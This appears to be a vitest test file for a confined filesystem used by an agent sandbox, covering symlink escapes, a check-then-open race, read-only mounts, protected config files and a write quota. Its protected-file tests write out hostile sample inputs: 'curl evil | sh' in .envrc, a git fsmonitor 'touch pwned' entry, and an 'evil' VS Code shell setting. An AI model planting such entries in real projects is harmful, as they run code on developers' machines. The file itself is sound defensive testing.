import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfinedFs, FsBridgeError } from '../../src/fs/confined-fs';
import { Confiner } from '../../src/fs/confiner';
import { tempDir } from '../helpers/workspace';

async function setup() {
  const root = await tempDir();
  const outside = await tempDir('boxagnts-out-');
  const ro = await tempDir('boxagnts-ro-');
  writeFileSync(join(outside, 'secret'), 'S');
  writeFileSync(join(ro, 'r.txt'), 'read me');
  mkdirSync(join(root, 'src'));
  writeFileSync(join(root, 'src', 'a.ts'), 'export {}\n');
  mkdirSync(join(root, '.boxagnts'));
  writeFileSync(join(root, '.boxagnts', 'secrets.json'), '{}');
  symlinkSync(outside, join(root, 'out-dir'));
  symlinkSync(join(root, 'src', 'a.ts'), join(root, 'inside-link'));
  const confiner = new Confiner({
    workDir: root,
    mounts: [{ host: ro, guest: '/ro', readOnly: true }],
    hidden: [join(root, '.boxagnts')],
  });
  return { root, outside, ro, confiner, fs: new ConfinedFs(confiner) };
}

function code(fn: () => unknown): string {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(FsBridgeError);
    return `${(error as FsBridgeError).code}${(error as FsBridgeError).limit ? ` ${(error as FsBridgeError).limit}` : ''}`;
  }
  return 'ok';
}

describe('Confiner', () => {
  it('normalises guest paths so they never climb above /', () => {
    expect(Confiner.normalize('../../etc/passwd')).toBe('/etc/passwd');
    expect(Confiner.normalize('/a/./b/../c')).toBe('/a/c');
    expect(Confiner.normalize('src')).toBe('/src');
    expect(Confiner.normalize('/..')).toBe('/');
  });

  it('maps mounts by the longest guest prefix', async () => {
    const { confiner, root, ro } = await setup();
    expect(confiner.locate('/src/a.ts', 'read')).toMatchObject({ mount: { host: root }, names: ['src', 'a.ts'] });
    expect(confiner.locate('/ro/r.txt', 'read')).toMatchObject({ mount: { host: ro }, names: ['r.txt'] });
    expect(confiner.locate('/row', 'read')).toMatchObject({ mount: { host: root }, names: ['row'] });
  });
});

describe('ConfinedFs', () => {
  it('reads and writes inside the workspace, creating folders', async () => {
    const { fs, root } = await setup();
    expect(fs.readFile('/src/a.ts', { as: 'text', maxBytes: 100 })).toMatchObject({
      data: 'export {}\n',
      binary: false,
      truncated: false,
    });
    expect(fs.writeFile('/new/deep/file.txt', 'x')).toEqual({ created: true });
    expect(fs.writeFile('/new/deep/file.txt', 'y')).toEqual({ created: false });
    expect(readFileSync(join(root, 'new', 'deep', 'file.txt'), 'utf8')).toBe('y');
    expect(fs.readFile('/src/a.ts', { as: 'text', maxBytes: 3 })).toMatchObject({
      data: 'exp',
      truncated: true,
      size: 10,
    });
  });

  it('refuses links in or at the end of a path, and hides them from listings', async () => {
    const { fs, outside } = await setup();
    expect(code(() => fs.readFile('/out-dir/secret', { as: 'text', maxBytes: 10 }))).toBe('ENOENT fs');
    expect(code(() => fs.readFile('/inside-link', { as: 'text', maxBytes: 10 }))).toBe('ENOENT fs');
    expect(code(() => fs.writeFile('/out-dir/planted', 'x'))).toBe('ENOENT fs');
    expect(code(() => fs.mkdir('/out-dir/sub'))).toBe('ENOENT fs');
    expect(() => readFileSync(join(outside, 'planted'))).toThrow();
    expect(
      fs
        .readdir('/')
        .map((e) => e.name)
        .sort(),
    ).toEqual(['src']);
  });

  it('hides the runtime folder and refuses writes to read-only mounts', async () => {
    const { fs } = await setup();
    expect(code(() => fs.stat('/.boxagnts/secrets.json'))).toBe('ENOENT fs');
    expect(code(() => fs.writeFile('/.boxagnts/x', '1'))).toBe('ENOENT fs');
    expect(fs.readFile('/ro/r.txt', { as: 'text', maxBytes: 100 }).data).toBe('read me');
    expect(code(() => fs.writeFile('/ro/r.txt', 'changed'))).toBe('EROFS fs');
    expect(code(() => fs.writeFile('/ro/new.txt', 'new'))).toBe('EROFS fs');
  });

  it('names only guest paths in errors and tells a missing file from a refused one', async () => {
    const { fs, root } = await setup();
    for (const fn of [
      () => fs.stat('/missing'),
      () => fs.readFile('/src', { as: 'text', maxBytes: 1 }),
      () => fs.readdir('/src/a.ts'),
    ]) {
      try {
        fn();
      } catch (error) {
        expect((error as Error).message).not.toContain(root);
        expect((error as FsBridgeError).limit).toBe(null);
      }
    }
    expect(code(() => fs.stat('/missing'))).toBe('ENOENT');
  });

  it('catches a folder swapped for a link between the check and the open', async () => {
    const { fs, root, outside } = await setup();
    mkdirSync(join(root, 'swap'));
    writeFileSync(join(root, 'swap', 'secret'), 'inside');
    expect(fs.readFile('/swap/secret', { as: 'text', maxBytes: 100 }).data).toBe('inside');
    const { renameSync } = await import('node:fs');
    renameSync(join(root, 'swap'), join(root, 'swap-old'));
    symlinkSync(outside, join(root, 'swap'));
    expect(code(() => fs.readFile('/swap/secret', { as: 'text', maxBytes: 100 }))).toBe('ENOENT fs');
  });

  it('detects binary files without returning their bytes as text', async () => {
    const { fs, root } = await setup();
    writeFileSync(join(root, 'blob.bin'), Buffer.from([1, 2, 0, 3]));
    expect(fs.readFile('/blob.bin', { as: 'text', maxBytes: 100 })).toMatchObject({ data: '', binary: true, size: 4 });
    expect(fs.readFile('/blob.bin', { as: 'base64', maxBytes: 100 }).data).toBe('AQIAAw==');
  });
});

describe('protected files', () => {
  it('names the files host programs run code from, anywhere in the tree', async () => {
    const { isProtected } = await import('../../src/fs/protected-paths');
    for (const path of [
      '/.git',
      '/.git/config',
      '/sub/repo/.git/hooks/pre-commit',
      '/.gitmodules',
      '/.envrc',
      '/a/b/.envrc',
      '/.vscode/settings.json',
      '/.vscode/tasks.json',
      '/.idea/workspace.xml',
      '/.husky/pre-commit',
      '/.claude/settings.json',
    ]) {
      expect(isProtected(path), path).toBe(true);
    }
    for (const path of [
      '/',
      '/.gitignore',
      '/.github/workflows/ci.yml',
      '/.vscode',
      '/.vscode/launch.json',
      '/src/git/config',
      '/.envrc.example',
      '/my.git/config',
    ]) {
      expect(isProtected(path), path).toBe(false);
    }
  });

  async function guarded(writable: string[] = []) {
    const root = await tempDir();
    const confiner = new Confiner({ workDir: root, hidden: [join(root, '.boxagnts')], protect: { writable } });
    return { root, fs: new ConfinedFs(confiner) };
  }

  it('keeps .git read-only whether or not it exists, and every other protected file', async () => {
    const { root, fs } = await guarded();
    expect(code(() => fs.writeFile('/.git/config', '[core]\n\tfsmonitor = "touch pwned"\n'))).toBe('EROFS fs');
    expect(code(() => fs.mkdir('/.git'))).toBe('EROFS fs');
    expect(code(() => fs.mkdir('/sub/.git/hooks'))).toBe('EROFS fs');
    expect(code(() => fs.writeFile('/.envrc', 'curl evil | sh'))).toBe('EROFS fs');
    expect(code(() => fs.writeFile('/app/.vscode/tasks.json', '{}'))).toBe('EROFS fs');
    expect(existsSync(join(root, '.git'))).toBe(false);
    expect(existsSync(join(root, 'sub'))).toBe(false);
    expect(existsSync(join(root, 'app'))).toBe(false);
    expect(fs.writeFile('/.vscode/launch.json', '{}')).toEqual({ created: true });
  });

  it('reads protected files, and never lets one be removed, renamed, or made by moving a folder', async () => {
    const { root, fs } = await guarded();
    mkdirSync(join(root, '.git'));
    writeFileSync(join(root, '.git', 'config'), '[core]\n');
    mkdirSync(join(root, 'sub', '.git'), { recursive: true });
    writeFileSync(join(root, 'sub', '.git', 'HEAD'), 'ref');
    writeFileSync(join(root, 'sub', 'a.txt'), 'a');
    mkdirSync(join(root, 'staged'));
    writeFileSync(join(root, 'staged', 'settings.json'), '{"terminal.integrated.shell.linux": "evil"}');
    expect(fs.readFile('/.git/config', { as: 'text', maxBytes: 100 }).data).toBe('[core]\n');
    expect(code(() => fs.rename('/staged', '/.vscode'))).toBe('EROFS fs');
    expect(code(() => fs.rename('/.git', '/old-git'))).toBe('EROFS fs');
    expect(code(() => fs.rm('/.git/config'))).toBe('EROFS fs');
    expect(code(() => fs.rm('/sub', { recursive: true }))).toBe('EROFS fs');
    expect(existsSync(join(root, 'sub', 'a.txt'))).toBe(false);
    expect(readFileSync(join(root, 'sub', '.git', 'HEAD'), 'utf8')).toBe('ref');
    expect(existsSync(join(root, '.vscode'))).toBe(false);
    expect(readFileSync(join(root, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('lets the user allow a protected file or folder by name', async () => {
    const { root, fs } = await guarded(['.vscode/settings.json', '.husky']);
    expect(fs.writeFile('/.vscode/settings.json', '{}')).toEqual({ created: true });
    expect(fs.writeFile('/.husky/pre-commit', 'npm test')).toEqual({ created: true });
    expect(code(() => fs.writeFile('/.vscode/tasks.json', '{}'))).toBe('EROFS fs');
    expect(code(() => fs.writeFile('/pkg/.vscode/settings.json', '{}'))).toBe('EROFS fs');
    expect(readFileSync(join(root, '.husky', 'pre-commit'), 'utf8')).toBe('npm test');
  });

  it('leaves them writable where nothing is protected (the user on the Files page)', async () => {
    const root = await tempDir();
    const fs = new ConfinedFs(new Confiner({ workDir: root }));
    expect(fs.writeFile('/.vscode/settings.json', '{}')).toEqual({ created: true });
  });
});

describe('the write quota', () => {
  it('refuses a write that would pass the quota, whole, and counts every write and copy of the call', async () => {
    const root = await tempDir();
    const fs = new ConfinedFs(new Confiner({ workDir: root }), { maxWriteBytes: 1000 });
    fs.writeFile('/a.txt', 'x'.repeat(600));
    expect(code(() => fs.writeFile('/b.txt', 'y'.repeat(600)))).toBe('EDQUOT disk');
    expect(existsSync(join(root, 'b.txt'))).toBe(false);
    fs.writeFile('/a.txt', 'z'.repeat(300), { append: true });
    expect(code(() => fs.copy('/a.txt', '/c.txt'))).toBe('EDQUOT disk');
    expect(fs.bytesWritten).toBe(900);
    expect(statSync(join(root, 'a.txt')).size).toBe(900);
  });
});
